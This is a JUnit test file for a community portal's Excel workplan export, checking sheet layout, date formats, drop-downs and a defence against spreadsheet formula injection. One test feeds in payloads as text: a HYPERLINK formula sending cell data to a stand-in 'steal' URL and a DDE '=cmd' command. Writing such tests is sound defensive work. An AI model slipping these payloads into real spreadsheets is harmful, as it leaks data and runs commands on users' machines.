package org.neighbourhoodportal.workplan.excel;

import org.neighbourhoodportal.spreadsheets.ExcelLimits;

import static org.assertj.core.api.Assertions.assertThat;
import static org.neighbourhoodportal.directory.DemoDirectoryData.LEAD;

import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataValidation;
import org.apache.poi.ss.usermodel.DataValidationConstraint;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.neighbourhoodportal.security.RunAs;
import org.neighbourhoodportal.workplan.ActionDraft;
import org.neighbourhoodportal.workplan.ActionRow;
import org.neighbourhoodportal.workplan.PriorityDraft;
import org.neighbourhoodportal.workplan.PriorityRow;
import org.neighbourhoodportal.workplan.TagOption;
import org.neighbourhoodportal.workplan.WorkplanService;
import org.neighbourhoodportal.workplan.PriorityService;
import org.neighbourhoodportal.workplan.ActionRiskService;
import org.springframework.beans.factory.annotation.Autowired;

/** What the exported workbook holds, read back with POI the way Excel would open it. */
@ExcelTest
class WorkplanExcelExportTests {

    @Autowired RunAs runAs;
    @Autowired WorkplanService workplan;
    @Autowired ActionRiskService actionRiskService;
    @Autowired PriorityService priorityService;
    @Autowired WorkplanExcelService excel;

    private ExcelFixture fixture;
    private long planId;
    private XSSFWorkbook workbook;

    @BeforeEach
    void exportHarborough() {
        fixture = new ExcelFixture(runAs, workplan, priorityService, actionRiskService, excel);
        planId = fixture.harboroughPlan();
        workbook = Workbooks.open(fixture.export(LEAD, planId));
    }

    @Test
    void the_workbook_has_a_priorities_sheet_and_an_actions_sheet_with_every_row_and_its_id() {
        assertThat(workbook.getSheetName(0)).isEqualTo("Priorities");
        assertThat(workbook.getSheetName(1)).isEqualTo("Actions");
        assertThat(workbook.isSheetHidden(workbook.getSheetIndex("Lists"))).isTrue();

        Sheet priorities = workbook.getSheet("Priorities");
        assertThat(headings(priorities)).containsExactly("ID (do not change)", "Version (do not change)", "Title",
                "Why it matters", "Lead organisation (read only)", "Lead person (read only)", "Starts", "Ends",
                "Status (RAG)", "Reason for the status", "Tags (read only)");
        List<PriorityRow> plan = fixture.priorities(planId);
        assertThat(plan).hasSizeGreaterThanOrEqualTo(7);
        assertThat(priorities.getLastRowNum()).isEqualTo(plan.size());
        for (PriorityRow p : plan) {
            Row row = Workbooks.row(priorities, p.id());
            assertThat(text(row, PriorityColumn.TITLE)).isEqualTo(p.title());
            assertThat(text(row, PriorityColumn.RAG)).isEqualTo(Layout.ragName(p.rag()));
            assertThat(row.getCell(PriorityColumn.VERSION.ordinal()).getNumericCellValue()).isEqualTo(p.version());
            assertThat(text(row, PriorityColumn.TAGS)).isEqualTo(
                    p.tags().stream().map(TagOption::title).collect(Collectors.joining("; ")));
        }

        Sheet actions = workbook.getSheet("Actions");
        assertThat(headings(actions)).containsExactly("ID (do not change)", "Version (do not change)", "Priority ID",
                "Priority", "Action", "Owner", "Due", "Status", "% complete", "Milestone");
        List<ActionRow> all = fixture.actions(planId);
        assertThat(actions.getLastRowNum()).isEqualTo(all.size());
        for (ActionRow a : all) {
            Row row = Workbooks.row(actions, a.id());
            PriorityRow under = plan.stream().filter(p -> p.id() == a.priorityId()).findFirst().orElseThrow();
            assertThat(row.getCell(ActionColumn.PRIORITY_ID.ordinal()).getNumericCellValue()).isEqualTo(under.id());
            assertThat(text(row, ActionColumn.PRIORITY)).isEqualTo(under.title());
            assertThat(text(row, ActionColumn.TITLE)).isEqualTo(a.title());
            assertThat(text(row, ActionColumn.OWNER)).isEqualTo(a.ownerName());
            assertThat(text(row, ActionColumn.STATUS)).isEqualTo(a.status().label());
            assertThat(row.getCell(ActionColumn.PERCENT_COMPLETE.ordinal()).getNumericCellValue())
                    .isEqualTo(a.percentComplete());
            assertThat(text(row, ActionColumn.MILESTONE)).isEqualTo(a.milestone() ? "Yes" : "No");
        }
    }

    @Test
    void dates_are_real_excel_dates_shown_as_day_month_and_year() {
        Sheet priorities = workbook.getSheet("Priorities");
        for (PriorityRow p : fixture.priorities(planId)) {
            Cell starts = Workbooks.row(priorities, p.id()).getCell(PriorityColumn.STARTS.ordinal());
            assertThat(starts.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(DateUtil.isCellDateFormatted(starts)).isTrue();
            assertThat(starts.getCellStyle().getDataFormatString()).isEqualTo("d mmm yyyy");
            assertThat(starts.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(p.startsOn());
            Cell ends = Workbooks.row(priorities, p.id()).getCell(PriorityColumn.ENDS.ordinal());
            assertThat(ends.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(p.endsOn());
        }
        Sheet actions = workbook.getSheet("Actions");
        List<ActionRow> dated = fixture.actions(planId).stream().filter(a -> a.dueOn() != null).toList();
        assertThat(dated).isNotEmpty();
        for (ActionRow a : dated) {
            Cell due = Workbooks.row(actions, a.id()).getCell(ActionColumn.DUE.ordinal());
            assertThat(DateUtil.isCellDateFormatted(due)).isTrue();
            assertThat(due.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(a.dueOn());
        }
    }

    @Test
    void the_heading_row_is_frozen_columns_have_sensible_widths_and_the_version_column_is_hidden() {
        for (String name : List.of("Priorities", "Actions")) {
            XSSFSheet sheet = workbook.getSheet(name);
            assertThat(sheet.getPaneInformation().isFreezePane()).as(name).isTrue();
            assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).as(name).isEqualTo((short) 1);
            assertThat(sheet.getPaneInformation().getVerticalSplitPosition()).as(name).isZero();
            assertThat(sheet.isColumnHidden(0)).as("the ID stays visible").isFalse();
            assertThat(sheet.isColumnHidden(1)).as("the version is hidden").isTrue();
            assertThat(sheet.getCTWorksheet().getAutoFilter()).as("a filter on the headings").isNotNull();
        }
        XSSFSheet priorities = workbook.getSheet("Priorities");
        // long text columns are capped so the sheet prints one page wide at a readable size; their text wraps
        assertThat(priorities.getColumnWidth(PriorityColumn.TITLE.ordinal())).isEqualTo(30 * 256);
        assertThat(priorities.getColumnWidth(PriorityColumn.WHY_IT_MATTERS.ordinal())).isEqualTo(30 * 256);
        assertThat(priorities.getColumnWidth(PriorityColumn.STARTS.ordinal())).isEqualTo(13 * 256);
        assertThat(workbook.getSheet("Actions").getColumnWidth(ActionColumn.TITLE.ordinal())).isEqualTo(30 * 256);
    }

    @Test
    void status_rag_and_milestone_offer_drop_down_lists_and_percent_complete_takes_0_to_100() {
        assertThat(list(workbook.getSheet("Priorities"), PriorityColumn.RAG))
                .containsExactly("Blue", "Green", "Amber", "Red");
        XSSFSheet actions = workbook.getSheet("Actions");
        assertThat(list(actions, ActionColumn.STATUS))
                .containsExactly("Not started", "In progress", "Blocked", "Done", "Cancelled");
        assertThat(list(actions, ActionColumn.MILESTONE)).containsExactly("Yes", "No");

        DataValidationConstraint percent = validation(actions, ActionColumn.PERCENT_COMPLETE).getValidationConstraint();
        assertThat(percent.getValidationType()).isEqualTo(DataValidationConstraint.ValidationType.INTEGER);
        assertThat(List.of(percent.getFormula1(), percent.getFormula2())).containsExactly("0", "100");

        DataValidation owner = validation(actions, ActionColumn.OWNER);
        assertThat(owner.getValidationConstraint().getFormula1()).startsWith("Lists!$A$1:$A$");
        Sheet lists = workbook.getSheet("Lists");
        List<String> people = new ArrayList<>();
        lists.forEach(r -> people.add(r.getCell(0).getStringCellValue()));
        assertThat(people).contains("Helen Carter", "Priya Shah", "Jo Bennett");

        // drop-downs reach past the last row, for rows people add at the bottom
        assertThat(validation(actions, ActionColumn.STATUS).getRegions().getCellRangeAddress(0).getLastRow())
                .isEqualTo(ExcelLimits.MAX_ROWS_PER_SHEET);
        assertThat(validation(actions, ActionColumn.DUE).getValidationConstraint().getValidationType())
                .isEqualTo(DataValidationConstraint.ValidationType.DATE);
    }

    @Test
    void text_that_starts_like_a_formula_is_written_as_text_that_excel_never_runs() {
        long fresh = fixture.freshPlan();
        PriorityRow falls = fixture.priority(fresh, "Falls prevention at home");
        ActionRow checklist = fixture.action(fresh, "Home safety checklist with Fire & Rescue");
        String hyperlink = "=HYPERLINK(\"https://example.org/steal?c=\"&A1,\"Click for the minutes\")";
        List<String> risky = List.of("+44 1858 000000 is the number to call", "-2 weeks slippage", "@SUM(A1:A9)",
                "=1+1");
        runAs.person(LEAD, () -> {
            priorityService.savePriority(new PriorityDraft(falls.id(), fresh, hyperlink, "=cmd|' /C calc'!A0",
                    falls.leadOrganisationId(), falls.leadPersonId(), falls.startsOn(), falls.endsOn(), falls.rag(),
                    "-", Set.of(), falls.version()));
            actionRiskService.saveAction(new ActionDraft(checklist.id(), checklist.priorityId(), risky.get(0),
                    checklist.ownerId(), checklist.dueOn(), checklist.status(), checklist.percentComplete(), false, checklist.version()));
            for (String title : risky.subList(1, risky.size())) {
                actionRiskService.saveAction(new ActionDraft(null, falls.id(), title, null, null, checklist.status(), 0, false, null));
            }
        });

        byte[] file = fixture.export(LEAD, fresh);
        XSSFWorkbook exported = Workbooks.open(file);
        Row priority = Workbooks.row(exported.getSheet("Priorities"), falls.id());
        assertText(priority.getCell(PriorityColumn.TITLE.ordinal()), hyperlink);
        assertText(priority.getCell(PriorityColumn.WHY_IT_MATTERS.ordinal()), "=cmd|' /C calc'!A0");
        Sheet actions = exported.getSheet("Actions");
        for (String title : risky) {
            ActionRow action = fixture.action(fresh, title);
            assertText(Workbooks.row(actions, action.id()).getCell(ActionColumn.TITLE.ordinal()), title);
            // the action's priority title is repeated on its row, and is just as safe there
            assertText(Workbooks.row(actions, action.id()).getCell(ActionColumn.PRIORITY.ordinal()), hyperlink);
        }
        for (Sheet sheet : exported) {
            for (Row row : sheet) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).as(sheet.getSheetName() + "!" + cell.getAddress())
                            .isNotEqualTo(CellType.FORMULA);
                }
            }
        }
        // and the texts come back exactly as they went out
        ImportPreview again = fixture.preview(fresh, file);
        assertThat(again.problems()).isEmpty();
        assertThat(again.hasChanges()).isFalse();
    }

    @Test
    void ordinary_text_is_not_marked_and_dates_of_a_new_plan_come_out_as_given() {
        long fresh = fixture.freshPlan();
        XSSFWorkbook exported = Workbooks.open(fixture.export(LEAD, fresh));
        PriorityRow carers = fixture.priority(fresh, "Support for unpaid carers");
        Row row = Workbooks.row(exported.getSheet("Priorities"), carers.id());
        assertThat(row.getCell(PriorityColumn.TITLE.ordinal()).getCellStyle().getQuotePrefixed()).isFalse();
        assertThat(row.getCell(PriorityColumn.STARTS.ordinal()).getLocalDateTimeCellValue().toLocalDate())
                .isEqualTo(LocalDate.of(carers.startsOn().getYear(), 6, 1));
        assertThat(row.getCell(PriorityColumn.RAG_REASON.ordinal()).getStringCellValue())
                .isEqualTo("Waiting to hear about funding.");
    }

    private static void assertText(Cell cell, String expected) {
        assertThat(cell.getCellType()).as(cell.getAddress().formatAsString()).isEqualTo(CellType.STRING);
        assertThat(cell.getStringCellValue()).isEqualTo(expected);
        assertThat(cell.getCellStyle().getQuotePrefixed()).as("quote prefix on " + cell.getAddress()).isTrue();
    }

    private static List<String> headings(Sheet sheet) {
        List<String> headings = new ArrayList<>();
        sheet.getRow(0).forEach(c -> headings.add(c.getStringCellValue()));
        return headings;
    }

    private static String text(Row row, Layout.Column column) {
        Cell cell = row.getCell(column.ordinal());
        return cell == null ? null : cell.getStringCellValue();
    }

    private static List<String> list(XSSFSheet sheet, Layout.Column column) {
        DataValidationConstraint constraint = validation(sheet, column).getValidationConstraint();
        assertThat(constraint.getValidationType()).isEqualTo(DataValidationConstraint.ValidationType.LIST);
        // Excel reads showDropDown="1" as "hide the arrow", whatever the attribute's name says
        for (var written : sheet.getCTWorksheet().getDataValidations().getDataValidationArray()) {
            assertThat(written.getShowDropDown()).as("arrow shown for " + written.getSqref()).isFalse();
        }
        return List.of(constraint.getExplicitListValues());
    }

    private static DataValidation validation(XSSFSheet sheet, Layout.Column column) {
        return sheet.getDataValidations().stream()
                .filter(v -> {
                    CellRangeAddress range = v.getRegions().getCellRangeAddress(0);
                    return range.getFirstColumn() == column.ordinal() && range.getFirstRow() == 1;
                })
                .findFirst().orElseThrow(() -> new AssertionError("No drop-down on " + column.heading()));
    }
}
